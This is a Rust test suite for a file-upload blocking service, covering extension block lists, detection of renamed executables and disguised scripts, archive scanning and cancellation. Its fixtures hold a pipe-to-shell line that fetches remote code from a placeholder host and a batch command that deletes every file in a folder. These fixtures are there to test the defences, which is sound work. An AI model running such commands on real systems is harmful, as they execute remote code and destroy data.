use file_blocker::services::blocklist::StaticBlockSets;
use file_blocker::services::records::InMemoryFileRecords;
use file_blocker::{Actor, DefenseConfig, RejectionKind, UploadService};
use std::io::Write;
use std::path::Path;
use std::sync::Arc;
use tokio_util::sync::CancellationToken;

const PE_STUB: &[u8] = &[
    0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00,
    0xB8, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
];
const PNG_STUB: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
];
const SHELL_SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n";

struct Harness {
    dir: tempfile::TempDir,
    blocklist: Arc<StaticBlockSets>,
    records: Arc<InMemoryFileRecords>,
    service: UploadService,
}

fn harness() -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let config = DefenseConfig {
        upload_dir: dir.path().join("uploads"),
        staging_dir: Some(dir.path().join("staging")),
        ..DefenseConfig::default()
    };

    // Workspace 1 blocks shell scripts, workspace 2 blocks nothing
    let blocklist = Arc::new(StaticBlockSets::with_workspace(1, ["exe", "sh", "bat"]));
    let records = Arc::new(InMemoryFileRecords::new());
    let service = UploadService::new(config, blocklist.clone(), records.clone());

    Harness {
        dir,
        blocklist,
        records,
        service,
    }
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::FileOptions::default();
    for (name, data) in entries {
        writer.start_file(*name, options).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn file_count(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .map(|entries| entries.count())
        .unwrap_or(0)
}

#[tokio::test]
async fn test_blocked_extension_is_rejected_before_content() {
    let h = harness();

    let err = h
        .service
        .upload_file(1, "install.EXE", 2, &b"hi"[..], Actor::new(10))
        .await
        .unwrap_err();

    let rejection = err.rejection().unwrap();
    assert_eq!(rejection.kind, RejectionKind::ExtensionBlocked);
    assert_eq!(rejection.offending_name.as_deref(), Some("exe"));
    assert!(h.records.records().await.is_empty());
}

#[tokio::test]
async fn test_report_txt_passes_bat_exe_blocklist() {
    let h = harness();
    h.blocklist.set(3, ["bat", "exe"]).await;
    let content = b"quarterly report\n";

    let record = h
        .service
        .upload_file(3, "report.txt", content.len() as u64, &content[..], Actor::new(5))
        .await
        .unwrap();

    assert_eq!(record.extension, "txt");
    assert_eq!(record.mime_type, "text/plain");
    assert_eq!(h.records.records().await.len(), 1);
}

#[tokio::test]
async fn test_virus_bat_is_blocked_by_extension() {
    let h = harness();
    h.blocklist.set(3, ["bat", "exe"]).await;
    let content = b"@echo off\r\ndel /q *\r\n";

    let err = h
        .service
        .upload_file(3, "virus.bat", content.len() as u64, &content[..], Actor::new(5))
        .await
        .unwrap_err();

    let rejection = err.rejection().unwrap();
    assert_eq!(rejection.kind, RejectionKind::ExtensionBlocked);
    assert_eq!(rejection.offending_name.as_deref(), Some("bat"));
    assert_eq!(file_count(&h.dir.path().join("uploads").join("3")), 0);
}

#[tokio::test]
async fn test_empty_upload_is_rejected() {
    let h = harness();

    let err = h
        .service
        .upload_file(2, "notes.txt", 0, &b""[..], Actor::new(10))
        .await
        .unwrap_err();
    assert_eq!(err.kind(), RejectionKind::EmptyFile);
    assert!(h.records.records().await.is_empty());
}

#[tokio::test]
async fn test_file_without_extension_is_rejected() {
    let h = harness();

    let err = h
        .service
        .upload_file(2, "Makefile", 3, &b"all"[..], Actor::new(10))
        .await
        .unwrap_err();
    assert_eq!(err.kind(), RejectionKind::ExtensionBlocked);
}

#[tokio::test]
async fn test_declared_size_over_limit_is_rejected() {
    let h = harness();
    let max = h.service.config().max_file_size;

    let err = h
        .service
        .upload_file(2, "huge.txt", max + 1, &b"small"[..], Actor::new(10))
        .await
        .unwrap_err();
    assert_eq!(err.kind(), RejectionKind::SizeExceeded);
}

#[tokio::test]
async fn test_renamed_executable_is_detected() {
    let h = harness();

    // Workspace 2 blocks nothing; native executables are refused anyway
    let err = h
        .service
        .upload_file(2, "holiday.jpg", PE_STUB.len() as u64, PE_STUB, Actor::new(10))
        .await
        .unwrap_err();

    let rejection = err.rejection().unwrap();
    assert_eq!(rejection.kind, RejectionKind::ExecutableDetected);
    assert_eq!(rejection.offending_name.as_deref(), Some("holiday.jpg"));
}

#[tokio::test]
async fn test_disguised_script_depends_on_workspace_blocklist() {
    let h = harness();
    let size = SHELL_SCRIPT.len() as u64;

    // 1. Workspace 1 blocks .sh, so a shell script named .jpg is refused
    let err = h
        .service
        .upload_file(1, "photo.jpg", size, SHELL_SCRIPT, Actor::new(10))
        .await
        .unwrap_err();
    let rejection = err.rejection().unwrap();
    assert_eq!(rejection.kind, RejectionKind::DisguisedExtension);
    assert_eq!(rejection.offending_name.as_deref(), Some("sh"));

    // 2. Workspace 2 does not block .sh
    let record = h
        .service
        .upload_file(2, "photo.jpg", size, SHELL_SCRIPT, Actor::new(10))
        .await
        .unwrap();
    assert_eq!(record.extension, "jpg");
    assert_eq!(record.mime_type, "application/x-sh");
}

#[tokio::test]
async fn test_blocklist_changes_apply_to_next_upload() {
    let h = harness();
    let size = SHELL_SCRIPT.len() as u64;

    assert!(
        h.service
            .check_upload(2, "photo.jpg", size, SHELL_SCRIPT, CancellationToken::new())
            .await
            .is_ok()
    );

    h.blocklist.set(2, ["sh"]).await;

    let err = h
        .service
        .check_upload(2, "photo.jpg", size, SHELL_SCRIPT, CancellationToken::new())
        .await
        .unwrap_err();
    assert_eq!(err.kind(), RejectionKind::DisguisedExtension);
}

#[tokio::test]
async fn test_clean_upload_is_stored_and_recorded() {
    let h = harness();

    let record = h
        .service
        .upload_file(7, "pixel.PNG", PNG_STUB.len() as u64, PNG_STUB, Actor::new(42))
        .await
        .unwrap();

    // 1. Record
    assert_eq!(record.id, Some(1));
    assert_eq!(record.workspace_id, 7);
    assert_eq!(record.original_name, "pixel.PNG");
    assert_eq!(record.extension, "png");
    assert_eq!(record.mime_type, "image/png");
    assert_eq!(record.byte_size, PNG_STUB.len() as u64);
    assert_eq!(record.uploaded_by, 42);
    assert_eq!(record.content_hash.len(), 32);
    assert!(record.stored_name.ends_with(".png"));
    assert_ne!(record.stored_name, record.original_name);

    // 2. Stored artifact under <upload_dir>/<workspace>/
    let workspace_dir = h.dir.path().join("uploads").join("7");
    assert_eq!(record.storage_path, workspace_dir.join(&record.stored_name));
    assert_eq!(std::fs::read(&record.storage_path).unwrap(), PNG_STUB);

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&record.storage_path)
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o644);
    }

    // 3. Staging is empty again
    assert_eq!(file_count(&h.dir.path().join("staging")), 0);
    assert_eq!(h.records.records().await.len(), 1);
}

#[tokio::test]
async fn test_same_content_gets_distinct_stored_names() {
    let h = harness();

    let first = h
        .service
        .upload_file(2, "notes.txt", 5, &b"hello"[..], Actor::new(1))
        .await
        .unwrap();
    let second = h
        .service
        .upload_file(2, "notes.txt", 5, &b"hello"[..], Actor::new(1))
        .await
        .unwrap();

    assert_eq!(first.content_hash, second.content_hash);
    assert_ne!(first.stored_name, second.stored_name);
    assert_eq!(first.mime_type, "text/plain");
    assert_eq!(file_count(&h.dir.path().join("uploads").join("2")), 2);
}

#[tokio::test]
async fn test_is_extension_blocked_is_read_only() {
    let h = harness();

    for _ in 0..2 {
        assert!(h.service.is_extension_blocked(1, "SH").await.unwrap());
        assert!(!h.service.is_extension_blocked(1, "png").await.unwrap());
        assert!(h.service.is_extension_blocked(1, "").await.unwrap());
    }
    assert!(h.records.records().await.is_empty());
}

#[tokio::test]
async fn test_archive_with_blocked_entry_is_rejected() {
    let h = harness();
    let data = zip_of(&[("readme.txt", b"read me"), ("bin/setup.bat", b"@echo off\r\n")]);

    let err = h
        .service
        .upload_file(1, "bundle.zip", data.len() as u64, &data[..], Actor::new(3))
        .await
        .unwrap_err();

    let rejection = err.rejection().unwrap();
    assert_eq!(rejection.kind, RejectionKind::ExtensionBlocked);
    assert_eq!(rejection.offending_name.as_deref(), Some("bin/setup.bat"));
    assert_eq!(file_count(&h.dir.path().join("uploads").join("1")), 0);
}

#[tokio::test]
async fn test_clean_archive_is_accepted_with_report() {
    let h = harness();
    let data = zip_of(&[("readme.txt", b"read me"), ("data/values.csv", b"1,2,3\n")]);

    let verdict = h
        .service
        .check_upload(1, "bundle.zip", data.len() as u64, &data[..], CancellationToken::new())
        .await
        .unwrap();

    assert_eq!(verdict.extension, "zip");
    assert_eq!(verdict.mime_type, "application/zip");
    let report = verdict.archive.unwrap();
    assert_eq!(report.file_count, 2);
    assert_eq!(report.deepest_level, 0);

    // check_upload never writes outside staging
    assert_eq!(file_count(&h.dir.path().join("uploads")), 0);
}

#[tokio::test]
async fn test_cancelled_upload_stores_nothing() {
    let h = harness();
    let data = zip_of(&[("a.txt", b"a"), ("b.txt", b"b")]);
    let token = CancellationToken::new();
    token.cancel();

    let err = h
        .service
        .upload_file_cancellable(
            2,
            "pair.zip",
            data.len() as u64,
            &data[..],
            Actor::new(1),
            token,
        )
        .await
        .unwrap_err();

    assert_eq!(err.kind(), RejectionKind::Cancelled);
    assert!(!err.kind().is_policy());
    assert_eq!(file_count(&h.dir.path().join("uploads").join("2")), 0);
    assert_eq!(file_count(&h.dir.path().join("staging")), 0);
}
